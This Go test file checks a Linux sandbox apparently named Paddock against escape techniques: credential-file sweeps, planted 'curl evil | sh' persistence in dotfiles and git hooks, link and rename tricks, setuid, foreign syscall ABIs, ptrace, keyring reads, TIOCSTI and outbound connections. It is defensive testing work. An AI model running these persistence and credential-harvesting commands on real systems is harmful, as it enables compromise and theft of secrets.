package main

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/creack/pty"
	"golang.org/x/sys/unix"
)

// One test per technique class of the threat model that Landlock, seccomp
// and the launcher must stop. Each is judged by a canary the test owns.

func TestEscapeCredentialCanaries(t *testing.T) {
	forModes(t, func(t *testing.T, s *sandbox) {
		var paths []string
		for p := range s.tokens {
			paths = append(paths, p)
		}
		// Control: without Paddock the same uid reads every canary.
		if s.mode != "root" {
			ctl := s.bare("read", paths...)
			for p, tok := range s.tokens {
				if !strings.Contains(ctl.out, tok) {
					t.Fatalf("control: %s is not readable without the sandbox, so the test proves nothing:\n%s", p, ctl.out)
				}
			}
		}
		s.noLeak(s.probeRun("read", paths...), "direct reads")
		s.noLeak(s.probeRun("find", s.home, s.ws), "a sweep of home and workspace")
		s.noLeak(s.run("/bin/sh", "-c", "cat .env* */.env* config/* deploy/* 2>&1; grep -r CANARY . "+s.home+" 2>&1; tar cf - . 2>/dev/null | grep -a CANARY"), "shell tools")
	})
}

func TestEscapePersistenceFiles(t *testing.T) {
	forModes(t, func(t *testing.T, s *sandbox) {
		for _, p := range homeProtected {
			s.probeRun("write", filepath.Join(s.home, p), "curl evil | sh\n")
		}
		for _, p := range workspaceProtected {
			s.probeRun("write", filepath.Join(s.ws, p), "curl evil | sh\n")
		}
		s.probeRun("write", filepath.Join(s.home, ".local/bin/git"), "#!/bin/sh\ncurl evil | sh\n")
		s.probeRun("write", filepath.Join(s.ws, ".git/hooks/post-checkout"), "#!/bin/sh\ncurl evil | sh\n")
		// Swapping the protected entries out from above.
		s.run("/bin/sh", "-c", `
			mv .git/hooks .git/hooks.old; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit
			mv .git .git.old; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; echo evil > .git/config
			rm -f .vscode/tasks.json; rm -rf .vscode; mkdir .vscode; echo evil > .vscode/tasks.json
			cp .mcp.json /tmp/m; echo evil > m2; mv m2 .mcp.json`)
		for _, p := range homeProtected {
			s.unchanged(filepath.Join(s.home, p))
		}
		for _, p := range workspaceProtected {
			s.unchanged(filepath.Join(s.ws, p))
		}
		for _, p := range []string{filepath.Join(s.home, ".local/bin/git"), filepath.Join(s.ws, ".git/hooks/post-checkout")} {
			if _, err := os.Lstat(p); err == nil {
				t.Errorf("%s was created from inside the sandbox", p)
			}
		}
	})
}

func TestEscapeLinksAndRenames(t *testing.T) {
	forModes(t, func(t *testing.T, s *sandbox) {
		env, key := filepath.Join(s.ws, ".env"), filepath.Join(s.home, ".ssh/id_ed25519")
		s.noLeak(s.probeRun("link", env, filepath.Join(s.ws, "src/copied")), "hard link out of a masked file")
		s.noLeak(s.probeRun("rename", env, filepath.Join(s.ws, "src/moved")), "rename of a masked file")
		s.noLeak(s.probeRun("link", key, filepath.Join(s.ws, "src/key")), "hard link out of a denied directory")
		s.noLeak(s.probeRun("rename", key, filepath.Join(s.ws, "src/key2")), "rename out of a denied directory")
		s.noLeak(s.probeRun("rename", filepath.Join(s.home, ".ssh"), filepath.Join(s.ws, "ssh")), "rename of a denied directory")
		s.noLeak(s.run("/bin/sh", "-c", "mv config cfg 2>&1; cat cfg/server.pem 2>&1; mv deploy src/ 2>&1; cat src/deploy/tls.key 2>&1"), "renaming the parent of a masked file")
		for _, p := range []string{env, key} {
			if b, err := os.ReadFile(p); err != nil || !strings.Contains(string(b), s.tokens[p]) {
				t.Errorf("%s lost its content: %q %v", p, b, err)
			}
		}
	})
}

func TestEscapeTruncateReadOnly(t *testing.T) {
	forModes(t, func(t *testing.T, s *sandbox) {
		// ~/.gitconfig is granted read-only by builtin:default.
		p := filepath.Join(s.home, ".gitconfig")
		s.probeRun("truncate", p)
		s.unchanged(p)
	})
}

func TestEscapeSymlinkedGrantRoot(t *testing.T) {
	forModes(t, func(t *testing.T, s *sandbox) {
		// A policy that grants ${home}/shared, which someone replaced with a
		// link to the credential store before launch.
		if err := os.Symlink(filepath.Join(s.home, ".ssh"), filepath.Join(s.home, "shared")); err != nil {
			t.Fatal(err)
		}
		_ = os.Lchown(filepath.Join(s.home, "shared"), s.uid, s.uid)
		pol := filepath.Join(s.base, "linked.hcl")
		s.write(pol, "policy \"linked\" {\n  extends = [\"builtin:default\"]\n}\nfilesystem {\n  read = [\"${home}/shared\", \"${workspace}/linkdir\"]\n}\n")
		if err := os.Symlink(filepath.Join(s.home, ".aws"), filepath.Join(s.ws, "linkdir")); err != nil {
			t.Fatal(err)
		}
		s.policy = pol
		s.noLeak(s.probeRun("read", filepath.Join(s.home, "shared/id_ed25519"), filepath.Join(s.ws, "linkdir/credentials")), "reads through symlinked grant roots")
	})
}

func TestEscapeSetuidBinary(t *testing.T) {
	forModes(t, func(t *testing.T, s *sandbox) {
		// A root-owned setuid copy of the probe, and a file only uid 12345 can read.
		suid := filepath.Join(s.ws, "suid-probe")
		data, _ := os.ReadFile(bin.probe)
		s.writeMode(suid, string(data), 0o755)
		if err := os.Lchown(suid, 0, 0); err != nil {
			t.Fatal(err)
		}
		if err := unix.Chmod(suid, 0o4755); err != nil {
			t.Fatal(err)
		}
		secret := filepath.Join(s.ws, "src/private")
		s.plant(secret, token("private"))
		_ = os.Chown(secret, 12345, 12345)
		_ = os.Chmod(secret, 0o600)
		if s.mode != "root" {
			if ctl := s.bareExec(suid, "read", secret); !strings.Contains(ctl.out, s.tokens[secret]) {
				t.Fatalf("control: the setuid binary cannot read the canary without the sandbox:\n%s%s", ctl.out, s.bareExec(suid, "whoami").out)
			}
		}
		r := s.run(suid, "whoami")
		if !strings.Contains(r.out, fmt.Sprintf("euid=%d", s.uid)) {
			t.Errorf("setuid binary ran with another euid inside the sandbox:\n%s", r.out)
		}
		s.noLeak(s.run(suid, "read", secret), "a setuid binary")
	})
}

func TestEscapeForeignABIs(t *testing.T) {
	forModes(t, func(t *testing.T, s *sandbox) {
		c := s.canaryProcess(t)
		r := s.probeRun("int80nice", fmt.Sprint(c.pid))
		if r.code != 128+int(syscall.SIGSYS) {
			t.Errorf("an i386 syscall did not kill the process (status %d):\n%s", r.code, r.out)
		}
		c.untouched(t)
		env := filepath.Join(s.ws, ".env")
		s.noLeak(s.probeRun("int80", env), "i386 open")
		s.noLeak(s.probeRun("x32", env), "x32 openat")
	})
}

func TestEscapeKernelAttackSurface(t *testing.T) {
	forModes(t, func(t *testing.T, s *sandbox) {
		for _, technique := range []string{"io_uring", "clone3", "bpf"} {
			if r := s.probeRun(technique); strings.Contains(r.out, "REACHED") {
				t.Errorf("%s reached the kernel:\n%s", technique, r.out)
			}
		}
		r := s.probeRun("userns")
		if lines := grepLines(r.out, "user namespace"); len(lines) != 1 || !sameNamespace(lines[0]) {
			t.Errorf("the probe changed user namespace:\n%s", r.out)
		}
		if strings.Contains(r.out, "clone(CLONE_NEWUSER): <nil>") || strings.Contains(r.out, "CLONE_NEWNET): <nil>") {
			t.Errorf("a process was created in new namespaces:\n%s", r.out)
		}
		if r := s.run("/usr/bin/unshare", "-Ur", "/bin/sh", "-c", "echo NEWNS-OK"); strings.Contains(r.out, "NEWNS-OK") {
			t.Errorf("unshare -Ur ran a command in a new user namespace:\n%s", r.out)
		}
		// The masks must not come off.
		masked := []string{filepath.Join(s.ws, ".env"), filepath.Join(s.ws, "config/server.pem")}
		s.noLeak(s.probeRun("mount", masked...), "unmounting the masks")
	})
}

func TestEscapeKeyring(t *testing.T) {
	forModes(t, func(t *testing.T, s *sandbox) {
		tok := token("key")
		id, err := unix.AddKey("user", "paddock-canary", []byte(tok), unix.KEY_SPEC_SESSION_KEYRING)
		if err != nil {
			t.Skipf("no session keyring to plant a canary in: %v", err)
		}
		t.Cleanup(func() { _, _ = unix.KeyctlInt(unix.KEYCTL_REVOKE, id, 0, 0, 0) })
		_, _ = unix.KeyctlInt(unix.KEYCTL_SETPERM, id, 0x3f3f3f3f, 0, 0) // readable by anyone who holds the keyring
		s.tokens["session keyring"] = tok
		s.noLeak(s.probeRun("keyctl", fmt.Sprint(id)), "keyctl")
	})
}

func TestEscapeOutsideProcess(t *testing.T) {
	forModes(t, func(t *testing.T, s *sandbox) {
		c := s.canaryProcess(t)
		s.tokens["canary process memory"] = c.token
		s.noLeak(s.probeRun("ptrace", fmt.Sprint(c.pid), fmt.Sprint(c.addr)), "ptrace and /proc/pid/mem")
		s.probeRun("prlimit", fmt.Sprint(c.pid))
		s.probeRun("signal", fmt.Sprint(c.pid))
		c.untouched(t)
	})
}

func TestEscapeInheritedDescriptors(t *testing.T) {
	forModes(t, func(t *testing.T, s *sandbox) {
		secret := filepath.Join(s.base, "outside-secret")
		s.plant(secret, token("inherited"))
		f, err := os.Open(secret)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		ln, err := net.Listen("unix", filepath.Join(s.base, "canary.sock"))
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		got := make(chan string, 1)
		go func() {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			b := make([]byte, 256)
			_ = c.SetReadDeadline(time.Now().Add(20 * time.Second))
			n, _ := c.Read(b)
			got <- string(b[:n])
		}()
		conn, err := net.Dial("unix", filepath.Join(s.base, "canary.sock"))
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		cf, _ := conn.(*net.UnixConn).File()
		defer cf.Close()
		s.extra = []*os.File{f, cf}
		r := s.probeRun("fds")
		s.noLeak(r, "inherited descriptors")
		conn.Close()
		select {
		case msg := <-got:
			if strings.Contains(msg, "probe-wrote-here") {
				t.Errorf("the sandbox wrote to an inherited socket: %q", msg)
			}
		case <-time.After(2 * time.Second):
		}
		var st unix.Stat_t
		_ = unix.Fstat(int(cf.Fd()), &st)
		for _, leak := range []string{secret, fmt.Sprintf("socket:[%d]", st.Ino)} {
			if strings.Contains(r.out, leak) {
				t.Errorf("the launcher's descriptor to %s reached the workload:\n%s", leak, r.out)
			}
		}
	})
}

func TestEscapeTIOCSTI(t *testing.T) {
	forModes(t, func(t *testing.T, s *sandbox) {
		ptm, pts, err := pty.Open()
		if err != nil {
			t.Fatal(err)
		}
		defer ptm.Close()
		defer pts.Close()
		if s.uid != 0 {
			_ = pts.Chown(s.uid, s.uid)
		}
		var seen bytes.Buffer
		done := make(chan struct{})
		go func() { _, _ = io.Copy(&seen, ptm); close(done) }()
		s.stdio = pts
		r := s.run(s.probe, "tiocsti")
		s.stdio = nil
		// Anything injected would now wait in the test terminal's input queue.
		n, err := unix.IoctlGetInt(int(pts.Fd()), unix.TIOCINQ)
		if err != nil {
			t.Fatal(err)
		}
		if n > 0 {
			t.Errorf("the sandbox typed %d bytes into the test's terminal", n)
		}
		pts.Close()
		<-done
		if !strings.Contains(seen.String(), "TIOCSTI") {
			t.Errorf("the probe did not get to try TIOCSTI (status %d):\n%s", r.code, seen.String())
		}
	})
}

func TestEscapeNetwork(t *testing.T) {
	forModes(t, func(t *testing.T, s *sandbox) {
		tcp, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		defer tcp.Close()
		udp, err := net.ListenPacket("udp", tcp.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		defer udp.Close()
		hits := make(chan string, 4)
		go func() {
			for {
				c, err := tcp.Accept()
				if err != nil {
					return
				}
				hits <- "tcp connection from " + c.RemoteAddr().String()
				c.Close()
			}
		}()
		go func() {
			b := make([]byte, 512)
			for {
				n, from, err := udp.ReadFrom(b)
				if err != nil {
					return
				}
				hits <- fmt.Sprintf("udp datagram %q from %s", b[:n], from)
			}
		}()
		r := s.probeRun("connect", tcp.Addr().String())
		time.Sleep(100 * time.Millisecond)
		select {
		case h := <-hits:
			t.Errorf("no direct connection may leave the sandbox, but the canary listener got a %s:\n%s", h, r.out)
		default:
		}
	})
}

// canary is an outside process of the workload's uid holding a token.
type canary struct {
	pid   int
	addr  uint64
	token string
	limit string
	nice  int
}

func (s *sandbox) canaryProcess(t *testing.T) *canary {
	t.Helper()
	c := &canary{token: token("memory")}
	cmd := exec.Command(bin.probe, "hold", c.token)
	if s.uid != 0 {
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(s.uid), Gid: uint32(s.uid), Groups: []uint32{}}}
	}
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
	line, err := bufio.NewReader(out).ReadString('\n')
	if err != nil {
		t.Fatalf("canary process: %v", err)
	}
	if _, err := fmt.Sscan(line, &c.pid, &c.addr); err != nil {
		t.Fatalf("canary process said %q: %v", line, err)
	}
	c.limit = cpuLimit(t, c.pid)
	c.nice, _ = unix.Getpriority(unix.PRIO_PROCESS, c.pid)
	return c
}

// untouched fails the test unless the canary process is alive, unstopped,
// and keeps its CPU limit and priority.
func (c *canary) untouched(t *testing.T) {
	t.Helper()
	stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", c.pid))
	if err != nil {
		t.Errorf("the outside canary process is gone: %v", err)
		return
	}
	if f := strings.Fields(string(stat)); len(f) > 2 && f[2] != "S" && f[2] != "R" {
		t.Errorf("the outside canary process is in state %s", f[2])
	}
	if l := cpuLimit(t, c.pid); l != c.limit {
		t.Errorf("the outside canary's CPU limit changed: %q -> %q", c.limit, l)
	}
	if n, _ := unix.Getpriority(unix.PRIO_PROCESS, c.pid); n != c.nice {
		t.Errorf("the outside canary's priority changed: %d -> %d", c.nice, n)
	}
}

func cpuLimit(t *testing.T, pid int) string {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/limits", pid))
	if err != nil {
		return ""
	}
	for _, l := range strings.Split(string(b), "\n") {
		if strings.HasPrefix(l, "Max cpu time") || strings.HasPrefix(l, "Max open files") {
			return l
		}
	}
	return ""
}

func grepLines(out, substr string) []string {
	var ls []string
	for _, l := range strings.Split(out, "\n") {
		if strings.Contains(l, substr) {
			ls = append(ls, l)
		}
	}
	return ls
}

func sameNamespace(line string) bool {
	f := strings.Fields(line)
	return len(f) >= 6 && f[len(f)-3] == f[len(f)-1]
}
